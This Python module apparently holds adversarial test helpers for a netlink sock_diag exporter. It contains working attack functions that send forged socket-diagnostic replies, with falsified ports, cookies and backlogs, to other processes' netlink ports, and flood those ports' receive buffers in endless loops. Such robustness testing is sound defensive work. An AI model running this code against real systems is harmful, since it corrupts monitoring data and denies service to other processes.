"""Attacks on netlink sockets, by root of the user namespace of a container. None of them ends.

Each calls the function that it is given when it begins.
"""

from __future__ import annotations

import os
import socket
import struct
import time
from collections.abc import Callable
from pathlib import Path

from exporter.kernel.family import TCP
from exporter.kernel.netns.namespace import own_namespace
from exporter.kernel.sock_diag.diag_socket import NETLINK_SOCK_DIAG
from exporter.kernel.sock_diag.dump import dump

Ready = Callable[[], object]
FALSE_PORT, FALSE_BACKLOG = 6666, 666
_PORT = struct.Struct(">H")
_LIMIT = struct.Struct("=I")
_PORT_AT, _COOKIE_AT, _LIMIT_AT = 20, 60, 76
_DONE = struct.pack("=IHHIIi", 20, 3, 2, 1, 0, 0)
_FLOOD_BYTES = 100_000
_MANY = 200


def reply_to_every_port(ready: Ready) -> None:
    """Send replies to each port of protocol 4 that /proc shows, again and again."""
    attacker, reply = _attacker(), _false_reply()
    ready()
    while True:
        for port in _ports():
            _send(attacker, port, reply)


def reply_to_every_pid(ready: Ready) -> None:
    """Send replies to the ports that the kernel gives to processes, whether they are open or not."""
    attacker, reply = _attacker(), _false_reply()
    ready()
    while True:
        pids = [int(name) for name in os.listdir("/proc") if name.isdecimal()]  # noqa: PTH208
        for _ in range(_MANY):
            for pid in pids:
                _send(attacker, pid, reply)


def flood_every_pid(ready: Ready) -> None:
    """Fill the receive buffers of these ports."""
    attacker, much = _attacker(), bytes(_FLOOD_BYTES)
    ready()
    while True:
        pids = [int(name) for name in os.listdir("/proc") if name.isdecimal()]  # noqa: PTH208
        for _ in range(_MANY):
            for pid in pids:
                _send(attacker, pid, much)


def _attacker() -> socket.socket:
    # With a core of its own it sends no less for it.
    os.nice(5)
    opened = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_SOCK_DIAG)
    # Not the port of its own number, which it attacks as well.
    opened.bind((1 << 30 | os.getpid(), 0))
    opened.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 * _FLOOD_BYTES)
    return opened


def _send(attacker: socket.socket, port: int, datagram: bytes) -> None:
    try:
        attacker.sendto(datagram, socket.MSG_DONTWAIT, (port, 0))
    except OSError:
        # No socket has this port, or it takes only what the kernel sends, or its buffer is full.
        time.sleep(0)


def _ports() -> list[int]:
    lines = Path("/proc/net/netlink").read_text().splitlines()[1:]
    rows = [line.split() for line in lines]
    return [int(row[2]) for row in rows if int(row[1]) == NETLINK_SOCK_DIAG]


def _false_reply() -> bytes:
    """The real reply, with rows that name another port and backlog, and its end."""
    rows = bytearray()
    for datagram in dump(TCP.rows.requests[0], own_namespace().sockets):
        row = bytearray(datagram[: int.from_bytes(datagram[:4], "little")])
        _PORT.pack_into(row, _PORT_AT, FALSE_PORT)
        # The cookie of a socket that does not exist.
        row[_COOKIE_AT + 7] ^= 0x40
        _LIMIT.pack_into(row, _LIMIT_AT, FALSE_BACKLOG)
        rows += row
    return bytes(rows) + _DONE
